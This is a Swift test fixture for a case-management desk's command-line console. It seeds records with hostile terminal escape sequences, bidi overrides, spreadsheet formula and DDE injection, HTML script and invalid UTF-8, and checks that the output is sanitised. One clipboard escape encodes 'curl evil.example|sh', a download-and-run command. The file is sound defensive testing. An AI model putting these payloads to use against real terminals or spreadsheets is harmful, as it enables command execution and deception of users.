@testable import CaseModel
import DeskTestSupport
import Foundation
import MatrixSupport
import GRDB
import XCTest

/// An `AttackDesk` whose case, roster, crisis event, validity ruling and penalty carry text written
/// to attack the terminal it is shown on (escape sequences that set the title, write the
/// clipboard, clear the screen; 8-bit controls; bidi overrides), plus spreadsheet formulas and
/// HTML, as another system's export or a hostile caller could leave them.
final class HostileTerminalDesk: @unchecked Sendable {
    /// Each class of hostile sequence, named for the ledger.
    static let sequences: [(name: String, text: String)] = [
        ("OSC 0 window title", "\u{1B}]0;pwned\u{07}"),
        ("OSC 52 clipboard", "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{07}"),
        ("CSI 2J clear screen", "\u{1B}[2J\u{1B}[H"),
        ("DCS request", "\u{1B}P+q544e\u{1B}\\"),
        ("C1 CSI", "\u{9B}31m"),
        ("C1 OSC", "\u{9D}0;c1title\u{9C}"),
        ("bidi override", "\u{202E}fdp.exe\u{202C}"),
        ("bidi isolate", "\u{2067}隔离\u{2069}"),
        ("C0 and DEL", "\u{08}\u{0D}\u{7F}"),
    ]
    /// All of them, between Chinese words (so a test also sees CJK text survive).
    static let payload = sequences.map(\.text).joined(separator: "理赔")
    /// A summary that is also a spreadsheet formula and HTML.
    static let summary = "=HYPERLINK(\"http://e.x/\")" + payload + "<script>alert(1)</script>"
    static let branch = "@SUM(1+1)上海分公司" + payload
    static let product = "-2+3+cmd|' /C calc'!A0" + payload
    static let title = "+" + payload + "危机"

    let base: AttackDesk
    /// The hostile case's number.
    private(set) var number = ""
    /// The hostile crisis event's id.
    private(set) var crisisId: Int64 = 0
    /// The month the penalty is booked in.
    let month = "2026-02"
    /// Whether the penalty ledger's person carries the hostile text (written past the application).
    private(set) var penaltyPlanted = false
    /// When the crisis event's 1-hour report falls due.
    private(set) var superiorReportDue: Instant?

    init() throws {
        base = try AttackDesk(withReports: false)
        let desk = base.desk
        let admin = Actor(name: AttackDesk.osLogin)
        try desk.addUser(DeskUser(name: "evil", displayName: "恶意" + Self.payload, team: "理赔组" + Self.payload, role: .handler), actor: admin)
        var d = AttackDesk.draft(summary: Self.summary, phone: "13812349999")
        d.details = "详情" + Self.payload
        d.demand = "诉求" + Self.payload
        d.name = "张\u{1B}]0;pwned\u{07}三"
        d.branch = Self.branch
        d.product = Self.product
        d.handler = AttackDesk.handlerLogin
        d.people = 3
        number = try desk.intake(d, actor: Actor(name: AttackDesk.operatorLogin)).number
        let lead = Actor(name: AttackDesk.leadLogin)
        _ = try desk.determineValidity(number, valid: true, reason: "查实" + Self.payload, responsible: AttackDesk.handlerLogin,
                                       lead: AttackDesk.leadLogin, actor: lead)
        let crisis = Actor(name: AttackDesk.crisisLogin)
        crisisId = try desk.proposeCrisis(title: Self.title, cases: [number], trigger: .manual, actor: crisis)
        try desk.declareCrisis(crisisId, actor: crisis)
        try desk.fileCrisisReport(crisisId, kind: .update, to: "总公司" + Self.payload, text: "进展" + Self.payload, actor: crisis)
        superiorReportDue = try desk.crisisEvent(crisisId, actor: crisis).reportDue(.superior, desk.policy.crisis)
        // The ledger names logins, which the application keeps plain: another program writing the
        // file is how hostile text gets there.
        let queue = try DatabaseQueue(path: base.path)
        penaltyPlanted = (try? queue.write { db in
            try db.execute(sql: "UPDATE penalties SET person = person || ?", arguments: [Self.payload])
            return db.changesCount > 0
        }) ?? false
    }

    /// Writes bytes that are not UTF-8 into a general case's summary, as another program could,
    /// and returns that case's number.
    func plantInvalidUTF8() throws -> String {
        let target = base.general[0]
        let queue = try DatabaseQueue(path: base.path)
        try queue.write { db in
            try db.execute(sql: "UPDATE cases SET summary = CAST(X'C328E282A8F09F98FFFE1B5D303B780707C29BED' AS TEXT) WHERE number = ?", arguments: [target])
        }
        return target
    }

    /// A file in the desk's scratch directory with `bytes` in it.
    func file(_ name: String, _ bytes: [UInt8]) throws -> String {
        let path = base.dir.file(name)
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        return path
    }

    /// A file in the desk's scratch directory with `text` in it.
    func file(_ name: String, _ text: String) throws -> String { try file(name, Array(text.utf8)) }

    /// The console's arguments for `login` running `args` on this desk at `now`.
    func arguments(_ login: String, _ args: [String], now: String = AttackDesk.now) -> [String] {
        [ConsoleProcess.binary] + args + ["--db", base.path, "--now", now] + (login == AttackDesk.osLogin ? [] : ["--user", login])
    }

    /// The environment every run gets.
    var environment: [String: String] { ["LANG": "C.UTF-8", "CONSOLE_CONFIG_DIR": base.dir.file("config"), "NO_COLOR": "1"] }

    /// Runs the console as `login` with standard output and standard error on terminals.
    func onTerminal(_ login: String, _ args: [String], now: String = AttackDesk.now, timeout: Double = 60) throws -> TerminalProcess.Outcome {
        XCTAssertFalse(ConsoleProcess.binary.isEmpty, "the console binary was not built beside the tests")
        return try TerminalProcess.run(arguments(login, args, now: now), environment: environment, timeout: timeout)
    }

    /// Runs the console as `login` with standard output and standard error on pipes.
    func onPipe(_ login: String, _ args: [String]) throws -> ConsoleProcess.Outcome {
        try ConsoleProcess.run(arguments(login, args), environment: environment)
    }

    /// What in `bytes` a terminal would act on, or that is not UTF-8: empty when the output is safe.
    /// Judged on the bytes, independently of the product's own sanitiser.
    static func hazards(_ bytes: [UInt8]) -> [String] {
        var found: [String] = []
        if String(validating: bytes, as: UTF8.self) == nil { found.append("bytes that are not UTF-8") }
        for u in String(decoding: bytes, as: UTF8.self).unicodeScalars where acts(u.value) && found.count < 8 {
            found.append(String(format: "U+%04X", u.value))
        }
        return found
    }

    /// Standard error without the console's own progress-line frames (docs/bulk-data.md,
    /// "Progress"): a carriage return, a known label's harmless text, and erase-to-end-of-line —
    /// the one control sequence the command line writes on purpose. Anything else stays to be judged.
    static func withoutProgressLines(_ bytes: [UInt8]) -> [UInt8] {
        let text = String(decoding: bytes, as: UTF8.self)
        let frame = /\r(?:(?:exporting|importing|demo|recomputing|backing up) [^\r\n\u{1B}]*)?\u{1B}\[K/
        return Array(text.replacing(frame, with: "").utf8)
    }

    /// Whether a terminal acts on the scalar `v`, or it reorders the text around it.
    static func acts(_ v: UInt32) -> Bool {
        switch v {
        case 0x0A, 0x09: return false
        case 0x00..<0x20, 0x7F, 0x80..<0xA0, 0x061C, 0x200E, 0x200F, 0x202A...0x202E, 0x2066...0x2069: return true
        default: return false
        }
    }
}
